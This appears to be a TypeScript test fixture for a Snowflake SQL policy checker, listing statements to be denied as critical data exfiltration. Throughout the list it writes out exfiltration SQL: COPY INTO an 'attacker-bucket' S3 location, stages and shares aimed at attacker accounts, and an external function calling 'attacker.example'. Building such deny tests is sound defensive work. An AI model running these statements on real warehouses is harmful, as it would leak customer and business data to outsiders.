/** Data leaving Snowflake or files moving through the worker: denied, critical. */
import type { PolicyCase } from './types.ts';

const exfil = (sql: string, extra: Partial<PolicyCase> = {}): PolicyCase => ({
  sql,
  action: 'deny',
  codes: ['EXFILTRATION'],
  risk: 'critical',
  ...extra,
});

export const exfiltration: PolicyCase[] = [
  exfil('copy into @unload/orders/ from orders', { kinds: ['copy'] }),
  exfil('copy into @~/dump.csv from (select * from customers)'),
  exfil('copy into \'s3://attacker-bucket/dump/\' from orders credentials = (aws_key_id = \'x\' aws_secret_key = \'y\')'),
  exfil('copy into \'azure://acct.blob.core.windows.net/c/\' from orders storage_integration = azure_int'),
  exfil('copy into @%orders from orders', { note: 'table stage' }),
  exfil('put file:///tmp/payload.csv @~/staged', { kinds: ['put'] }),
  exfil('get @~/staged/dump.csv file:///tmp/', { kinds: ['get'] }),
  exfil('create stage leak url = \'s3://attacker-bucket/\''),
  exfil('create or replace temporary stage leak'),
  exfil('alter stage ingest set url = \'s3://attacker-bucket/\''),
  exfil('create storage integration s3_int type = external_stage storage_provider = \'S3\' enabled = true storage_aws_role_arn = \'arn:aws:iam::1:role/x\' storage_allowed_locations = (\'s3://attacker/\')'),
  exfil('create api integration api_int api_provider = aws_api_gateway api_aws_role_arn = \'arn\' enabled = true api_allowed_prefixes = (\'https://x\')'),
  exfil('create notification integration n type = email enabled = true'),
  exfil('create external access integration web allowed_network_rules = (r) enabled = true'),
  exfil('create external function leak(x varchar) returns variant api_integration = api_int as \'https://attacker.example/leak\''),
  exfil('create share leak_share'),
  exfil('alter share leak_share add accounts = attacker_acct'),
  exfil('select get_presigned_url(@ingest, \'orders.csv\')'),
  exfil('grant select on table orders to share leak_share', { note: 'granting to a share publishes the table to another account' }),
];
